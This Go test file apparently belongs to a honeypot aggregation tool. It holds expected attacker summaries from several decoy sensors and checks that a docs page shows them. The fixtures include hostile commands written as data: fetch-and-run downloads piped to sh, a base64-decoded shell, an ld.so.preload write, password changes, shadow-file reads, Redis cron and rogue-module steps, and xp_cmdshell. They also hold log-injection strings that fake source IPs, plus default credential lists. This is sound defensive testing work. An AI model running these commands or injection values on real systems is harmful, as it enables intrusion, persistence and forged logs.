package sensors

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// shown are the fields that docs/sensors.md shows of each sensor's attacker,
// whole: the page shortens them, and -update writes it anew, so that what it
// says counts only because it is said here too. Counts, times, lengths and the
// moves between decoys were compared with the logs under testbed/data.
var shown = map[string]string{
	"decnet": `{
		"ip": "185.242.33.16",
		"first_seen": "2026-01-01T23:28:14.573551Z",
		"last_seen": "2026-01-01T23:30:24.937891Z",
		"event_count": 17,
		"services": ["ftp", "redis", "ssh"],
		"services_interacted": ["redis", "ssh"],
		"deckies": ["decky-05", "decky-07", "decky-01", "decky-08"],
		"login_attempts": 1,
		"command_count": 5,
		"spoofable": false,
		"command.line": ["AUTH x", "EVAL a b", "SET a b", "KEYS a b"],
		"movement.edges": [
			{"count": 1, "first": "2026-01-01T23:28:53.535427Z", "from": "decky-05", "to": "decky-07"},
			{"count": 1, "first": "2026-01-01T23:29:45.630745Z", "from": "decky-07", "to": "decky-01"},
			{"count": 1, "first": "2026-01-01T23:30:24.937891Z", "from": "decky-01", "to": "decky-08"}
		],
		"traversal_path": "decky-05 → decky-07 → decky-01 → decky-08",
		"threat.technique.id": ["T1110", "T1595"],
		"risk.level": "Moderate",
		"threat.indicator.description": "185.242.33.16 guesses logins: tries to log in; 17 events (1 claimed) on 3 services of 4 decoys, 1 login attempt, 4 commands"
	}`,
	"cowrie": `{
		"ip": "127.0.0.2",
		"first_seen": "2026-11-23T23:35:11.415272Z",
		"last_seen": "2026-11-23T23:35:40.095451Z",
		"event_count": 87,
		"services": ["ssh"],
		"services_interacted": ["ssh"],
		"deckies": ["decoy-ssh-01"],
		"login_attempts": 11,
		"command_count": 15,
		"spoofable": false,
		"artifacts": [
			{"count": 1, "first_seen": "2026-11-23T23:35:39.439115Z", "kind": "file", "last_seen": "2026-11-23T23:35:39.439115Z", "sha256": "9ce00c425e8da132900daf2b80c11c1f4ac92f0bfd9d9a5e1cf87ae3c030966f", "url": "http://127.0.0.1:18080/x.sh"},
			{"count": 1, "first_seen": "2026-11-23T23:35:40.008703Z", "kind": "file", "last_seen": "2026-11-23T23:35:40.008703Z", "payload": {"destfile": "/etc/ld.so.preload"}, "sha256": "886b67480dbe73b406ad83a1dd6d9596f93089d90c220ccfc91944c95f1c68c4"}
		],
		"command.line": [
			"uname -a",
			"cat /proc/cpuinfo | grep name | wc -l",
			"echo -e \"\\x6F\\x6B\"",
			"/ip cloud print",
			"nproc; free -m; lscpu",
			"echo \"root:Gx7pQ2\"|chpasswd|bash",
			"echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
			"cat /etc/passwd",
			"whoami",
			"ls -la /tmp",
			"uname -s -v -n -r -m",
			"cat /proc/mounts; ls -la /dev/shm; wget -qO- http://127.0.0.1:18080/x.sh | sh",
			"#!/bin/sh\\x0a# harmless sample: what a dropper looks like\\x0acd /tmp || cd /var/run\\x0aecho started",
			"echo 'evil' > /etc/ld.so.preload",
			"cat /root/.bash_history"
		],
		"credential.pair": [
			"admin:admin",
			"oracle:oracle",
			"root:1234",
			"root:123456",
			"root:root",
			"root:xc3511",
			"test:test",
			"ubuntu:ubuntu"
		],
		"fingerprint.hassh": ["472b5de333ad665af5cbf10ff892c4df", "4c94058d5e9e31659879f79fd5b46084"],
		"fingerprint.ssh_client": ["SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", "SSH-2.0-paramiko_5.1.0"],
		"session_longest_s": 1.159,
		"threat.technique.id": ["T1016", "T1027", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1083", "T1087.001", "T1098", "T1105", "T1110", "T1140", "T1552.003", "T1574.006"],
		"risk.level": "Critical",
		"threat.indicator.description": "127.0.0.2 runs a script on the decoys it got into: loads a library into every program, changes an account, brings a file along; 87 events on 1 service of 1 decoy, 11 login attempts (9 successful), 15 commands, 2 files"
	}`,
	"opencanary": `{
		"ip": "127.0.0.8",
		"first_seen": "2026-11-23T23:53:28.035862Z",
		"last_seen": "2026-11-23T23:54:00.733915Z",
		"event_count": 17,
		"services": ["mssql", "redis", "tcp"],
		"services_interacted": ["redis", "tcp"],
		"deckies": ["decoy-office-01"],
		"login_attempts": 2,
		"command_count": 13,
		"spoofable": false,
		"command.line": [
			"INFO",
			"AUTH foobared",
			"CONFIG SET dir /var/spool/cron/",
			"SET x   */1 * * * * curl -fsSL htt",
			"SLAVEOF 203.0.113.9 6379",
			"MODULE LOAD /tmp/exp.so",
			"EVAL return redis.call('info') 0",
			"FLUSHALL",
			"NOSUCH \\x1b[31m{\"src_host\":\"6.6.6.6\"}",
			"QUIT",
			"\\x1b%-12345X@PJL INFO ID",
			"test",
			"opensesame"
		],
		"credential.pair": [":foobared"],
		"threat.technique.id": ["T1046", "T1053.003", "T1082", "T1105", "T1110", "T1129", "T1485"],
		"risk.level": "Critical",
		"threat.indicator.description": "127.0.0.8 runs a script on the decoys it got into: has the server write a scheduled job, destroys data, loads a module into the server (redis-rogue-server tool); 17 events on 3 services of 1 decoy, 2 login attempts, 13 commands"
	}`,
	"suricata": `{
		"ip": "10.99.0.1",
		"first_seen": "2026-11-24T00:00:06.607017Z",
		"last_seen": "2026-11-24T00:00:21.487167Z",
		"event_count": 101,
		"services": ["dns", "ftp", "http", "https", "quic", "smb", "smtp", "ssh", "tls"],
		"services_interacted": ["dns", "ftp", "http", "smb", "smtp"],
		"deckies": ["10.99.0.2", "10.99.0.10"],
		"login_attempts": 2,
		"command_count": 3,
		"spoofable": false,
		"alerts": [
			{"category": "Attempted Administrator Privilege Gain", "count": 1, "first_seen": "2026-11-24T00:00:07.487403Z", "last_seen": "2026-11-24T00:00:07.487403Z", "severity": 1, "signature": "DOSSIER EXPLOIT Log4j lookup in a header (CVE-2021-44228)"},
			{"category": "Potentially Bad Traffic", "count": 2, "first_seen": "2026-11-24T00:00:07.508143Z", "last_seen": "2026-11-24T00:00:07.748753Z", "severity": 2, "signature": "DOSSIER ATTACK_RESPONSE id check returned root"},
			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:09.480445Z", "last_seen": "2026-11-24T00:00:09.480445Z", "severity": 1, "signature": "DOSSIER PHISH executable attachment"},
			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:21.477986Z", "last_seen": "2026-11-24T00:00:21.477986Z", "severity": 1, "side": "payload_host", "signature": "DOSSIER MALWARE decoy fetches an executable"}
		],
		"artifact.sha256": ["6896d9ea3f73a4434f5832bc65714e7d066f177373f36f34dc8a6f735daa41b1", "bfa20a876f14a54cbf5e78a6679f4f3c6bce0641d1d4cd2af02daa167a987bc5"],
		"fingerprint.hassh": ["472b5de333ad665af5cbf10ff892c4df"],
		"fingerprint.ja3": [
			"2c4428422b734ef16cdbf05bc5d82e08",
			"78f0dc5ac5b19daf131a133cfdee9691",
			"d54afe3e6974b809bf1bec9bb6677890"
		],
		"fingerprint.ja4": [
			"t12d280600_d943125447b4_a44c6288192a",
			"t12i0206h2_b06afd972a5c_a44c6288192a",
			"t13i3111h2_e8f1e7e78f70_b26ce05bbdd6"
		],
		"threat.technique.id": ["T1046", "T1059", "T1078", "T1105", "T1110", "T1190", "T1566.001", "T1595.003"],
		"risk.level": "High",
		"threat.indicator.description": "10.99.0.1 runs a script on the decoys it got into: brings a file along, stores a file on the server, logs in with valid credentials; 101 events (27 claimed) on 9 services of 2 decoys, 2 login attempts (1 successful), 3 commands, 2 files"
	}`,
	"ecs": `{
		"ip": "127.0.0.41",
		"first_seen": "2026-11-23T22:50:03.000000Z",
		"last_seen": "2026-11-24T02:33:42.000000Z",
		"event_count": 9,
		"services": ["ssh"],
		"services_interacted": ["ssh"],
		"deckies": ["decoy-web-01", "beelzebub"],
		"login_attempts": 3,
		"command_count": 3,
		"spoofable": false,
		"command.line": ["cat /proc/cpuinfo | grep name | wc -l", "uname -a; id"],
		"login_successes": 1,
		"threat.technique.id": ["T1033", "T1046", "T1059.004", "T1078", "T1082", "T1110"],
		"risk.level": "High",
		"threat.indicator.description": "127.0.0.41 guesses logins: logs in with valid credentials, asks about the system, asks who is logged in; 9 events (3 claimed) on 1 service of 2 decoys, 3 login attempts (1 successful), 2 commands"
	}`,
	"dionaea": `{
		"ip": "127.0.0.43",
		"first_seen": "2026-11-24T02:43:25.251371Z",
		"last_seen": "2026-11-24T02:43:43.254465Z",
		"event_count": 7,
		"services": ["mssql"],
		"services_interacted": ["mssql"],
		"deckies": ["127.0.0.1"],
		"login_attempts": 3,
		"command_count": 1,
		"spoofable": false,
		"command.line": ["EXEC master..xp_cmdshell 'whoami'; -- [relay@55555 src_ip=\"6.6.6.6\"]"],
		"credential.pair": ["sa:123456", "sa:P@ssw0rd", "sa\\u202e:x\",\"src_ip\":\"6.6.6.6"],
		"threat.technique.id": ["T1033", "T1046", "T1059.003", "T1110", "T1505.001"],
		"risk.level": "High",
		"threat.indicator.description": "127.0.0.43 runs a script on the decoys it got into: runs programs from the database, runs the Windows shell from the database, asks who is logged in; 7 events on 1 service of 1 decoy, 3 login attempts, 1 command"
	}`,
	"heralding": `{
		"ip": "127.0.0.31",
		"first_seen": "2026-11-24T00:22:30.252652Z",
		"last_seen": "2026-11-24T00:22:30.252652Z",
		"event_count": 1,
		"services": ["ftp"],
		"services_interacted": [],
		"deckies": ["127.0.0.1"],
		"login_attempts": 3,
		"command_count": 0,
		"spoofable": false,
		"credential.pair": ["admin:admin", "ftpuser:p\",\"source_ip\":\"6.6.6.6", "root:toor\\x1b[31m"],
		"credentials": [
			{"count": 1, "first_seen": "2026-11-24T00:22:30.252652Z", "last_seen": "2026-11-24T00:22:30.252652Z", "outcome": "failure", "principal": "admin", "secret": "admin", "secret_kind": "plaintext", "secret_sha256": "8c6976e5b5410415bde908bd4dee15dfb167a9c873fc4bb8a81f6f2ab448a918", "service": "ftp"},
			{"count": 1, "first_seen": "2026-11-24T00:22:30.252652Z", "last_seen": "2026-11-24T00:22:30.252652Z", "outcome": "failure", "principal": "ftpuser", "secret": "p\",\"source_ip\":\"6.6.6.6", "secret_kind": "plaintext", "secret_sha256": "6e249111afb3e25307b6b96f9386c42d03081c8a968e6bfcc8798ff3de1c95b8", "service": "ftp"},
			{"count": 1, "first_seen": "2026-11-24T00:22:30.252652Z", "last_seen": "2026-11-24T00:22:30.252652Z", "outcome": "failure", "principal": "root", "secret": "toor\\x1b[31m", "secret_kind": "plaintext", "secret_sha256": "caada0590306f8fba8a5b50b8c39eef8349b8b8725de946dbe7da799b948ad41", "service": "ftp"}
		],
		"threat.technique.id": ["T1046", "T1110"],
		"risk.level": "Moderate",
		"threat.indicator.description": "127.0.0.31 guesses logins: tries to log in; 1 event on 1 service of 1 decoy, 3 login attempts"
	}`,
	"beelzebub": `{
		"ip": "127.0.0.41",
		"first_seen": "2026-11-24T02:33:42.000000Z",
		"last_seen": "2026-11-24T02:33:47.000000Z",
		"event_count": 10,
		"services": ["ssh"],
		"services_interacted": ["ssh"],
		"deckies": ["beelzebub"],
		"login_attempts": 4,
		"command_count": 5,
		"spoofable": false,
		"command.line": [
			"cat /proc/cpuinfo | grep name | wc -l",
			"uname -a; id",
			"echo {\"SourceIp\":\"6.6.6.6\"}",
			"wget http://198.51.100.7/x.sh -O- | sh && echo \"[relay@55555 src_ip=\\\"6.6.6.6\\\"]\" <x>",
			"ls"
		],
		"credential.pair": ["root:123456", "root:Smoker666", "root:nope", "root:toor"],
		"fingerprint.ssh_client": ["SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", "SSH-2.0-paramiko_5.1.0"],
		"threat.technique.id": ["T1033", "T1046", "T1059.004", "T1078", "T1082", "T1105", "T1110"],
		"risk.level": "High",
		"threat.indicator.description": "127.0.0.41 runs a script on the decoys it got into: fetches a file, asks about the system, asks who is logged in; 10 events on 1 service of 1 decoy, 4 login attempts, 5 commands"
	}`,
	"tpot": `{
		"ip": "127.0.0.2",
		"first_seen": "2026-11-23T23:35:11.415272Z",
		"last_seen": "2026-11-23T23:38:54.302878Z",
		"event_count": 33,
		"services": ["ssh"],
		"services_interacted": ["ssh"],
		"deckies": ["tpot-frankfurt"],
		"login_attempts": 7,
		"command_count": 4,
		"spoofable": false,
		"command.line": ["uname -a", "cat /proc/cpuinfo | grep name | wc -l"],
		"credential.pair": ["admin:admin", "root:123456", "root:root", "root:xc3511", "test:test"],
		"fingerprint.hassh": ["4c94058d5e9e31659879f79fd5b46084"],
		"threat.technique.id": ["T1046", "T1059.004", "T1078", "T1082", "T1110"],
		"risk.level": "Moderate",
		"threat.indicator.description": "127.0.0.2 runs a script on the decoys it got into: logs in with valid credentials, asks about the system, reads what the system is; 33 events on 1 service of 1 decoy, 7 login attempts (3 successful), 4 commands"
	}`,
	"syslog": `{
		"ip": "127.0.0.25",
		"first_seen": "2026-11-24T00:11:56.462497Z",
		"last_seen": "2026-11-24T00:12:06.395928Z",
		"event_count": 23,
		"services": ["ssh"],
		"services_interacted": ["ssh"],
		"deckies": ["decoy-web-01"],
		"login_attempts": 1,
		"command_count": 20,
		"spoofable": false,
		"command.line": [
			"exit",
			"id; uname -a",
			"cd /tmp",
			"wget -q http://127.0.0.1:9/x.sh -O /tmp/.x",
			"echo \"[relay@55555 src_ip=\\\"6.6.6.6\\\" command=\\\"rm\\\"]\"",
			"echo src=6.6.6.6 from 6.6.6.6 cmd=whoami",
			"cat /etc/passwd | grep -v nologin > /dev/null",
			"printf '\\033[31m{\"src_ip\":\"6.6.6.6\"}\\n'",
			"echo für 日本 \\u202eabc",
			"echo wrong | sudo -S -k cat /etc/shadow"
		],
		"threat.technique.id": ["T1003.008", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1087.001", "T1105", "T1548.003", "T1564.001"],
		"risk.level": "Critical",
		"threat.indicator.description": "127.0.0.25 runs a script on the decoys it got into: reads password hashes, fetches a file, logs in with valid credentials; 23 events on 1 service of 1 decoy, 1 login attempt (1 successful), 20 commands"
	}`,
	"journald": `{
		"ip": "127.0.0.19",
		"first_seen": "2026-11-27T22:56:40.794405Z",
		"last_seen": "2026-11-27T22:56:47.338183Z",
		"event_count": 29,
		"services": [
			"ssh"
		],
		"services_interacted": [],
		"deckies": [
			"decoy-1"
		],
		"login_attempts": 4,
		"command_count": 0,
		"spoofable": false,
		"threat.technique.id": ["T1046", "T1078"],
		"risk.level": "Moderate",
		"threat.indicator.description": "127.0.0.19 guesses logins: logs in with valid credentials; 29 events on 1 service of 1 decoy, 4 login attempts (4 successful)",
		"login_successes": 4
	}`,
	"json-syslog": `{
		"ip": "127.0.0.2",
		"first_seen": "2026-11-23T23:35:11.415272Z",
		"last_seen": "2026-11-23T23:53:29.276172Z",
		"event_count": 96,
		"services": [
			"ftp",
			"ssh",
			"tftp"
		],
		"services_interacted": [
			"ssh",
			"tftp"
		],
		"deckies": [
			"decoy-ssh-01",
			"decoy-office-01"
		],
		"login_attempts": 14,
		"command_count": 18,
		"spoofable": false,
		"command.line": [
			"uname -a",
			"cat /proc/cpuinfo | grep name | wc -l",
			"echo -e \"\\x6F\\x6B\"",
			"/ip cloud print",
			"nproc; free -m; lscpu",
			"echo \"root:Gx7pQ2\"|chpasswd|bash",
			"echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
			"cat /etc/passwd",
			"whoami",
			"ls -la /tmp",
			"uname -s -v -n -r -m",
			"cat /proc/mounts; ls -la /dev/shm; wget -qO- http://127.0.0.1:18080/x.sh | sh",
			"#!/bin/sh\\x0a# harmless sample: what a dropper looks like\\x0acd /tmp || cd /var/run\\x0aecho started",
			"echo 'evil' > /etc/ld.so.preload",
			"cat /root/.bash_history"
		],
		"credential.pair": [
			"admin:admin",
			"admin:admin123",
			"anonymous:mozilla@example.com",
			"oracle:oracle",
			"root:1234",
			"root:123456",
			"root:root",
			"root:x\",\"src_host\":\"6.6.6.6",
			"root:xc3511",
			"test:test",
			"ubuntu:ubuntu"
		],
		"fingerprint.hassh": [
			"472b5de333ad665af5cbf10ff892c4df",
			"4c94058d5e9e31659879f79fd5b46084"
		],
		"threat.technique.id": ["T1016", "T1027", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1083", "T1087.001", "T1098", "T1105", "T1110", "T1140", "T1552.003", "T1574.006"],
		"risk.level": "Critical",
		"threat.indicator.description": "127.0.0.2 runs a script on the decoys it got into: loads a library into every program, changes an account, brings a file along; 96 events (3 claimed) on 3 services of 2 decoys, 14 login attempts (9 successful), 15 commands, 2 files"
	}`,
}

// shown returns what must be shown of a sensor's attacker, by field.
func (s sensor) shown(t *testing.T) (want map[string]any) {
	t.Helper()
	if err := json.Unmarshal([]byte(shown[s.config]), &want); err != nil {
		t.Fatalf("%s: %v", s.config, err)
	}
	return want
}

// docs/sensors.md shows what stands in the table, without a server too.
func TestPageShowsWhatIsAsserted(t *testing.T) {
	page := readPage(t)
	for _, s := range all {
		doc := map[string]any{}
		for field, v := range s.shown(t) {
			in, parts := doc, strings.Split(field, ".")
			for _, part := range parts[:len(parts)-1] {
				if in[part] == nil {
					in[part] = map[string]any{}
				}
				in = in[part].(map[string]any)
			}
			in[parts[len(parts)-1]] = v
		}
		page.holds(t, "example "+s.config, s.example(t, doc))
	}
	if len(shown) != len(all) {
		t.Errorf("%d sensors are shown, %d stand in the table", len(all), len(shown))
	}
}

// says checks what docs/sensors.md shows of an attacker.
func (s sensor) says(t *testing.T, doc map[string]any) {
	t.Helper()
	want := s.shown(t)
	fields := slices.Concat(always, s.show, last)
	for _, field := range fields {
		if got := at(doc, field); !reflect.DeepEqual(got, want[field]) {
			is, _ := json.Marshal(got)
			must, _ := json.Marshal(want[field])
			t.Errorf("%s: %s is\n%s\nwant\n%s", s.address, field, is, must)
		}
	}
	for field := range want {
		if !slices.Contains(fields, field) {
			t.Errorf("%s: docs/sensors.md doesn't show %s", s.config, field)
		}
	}
}
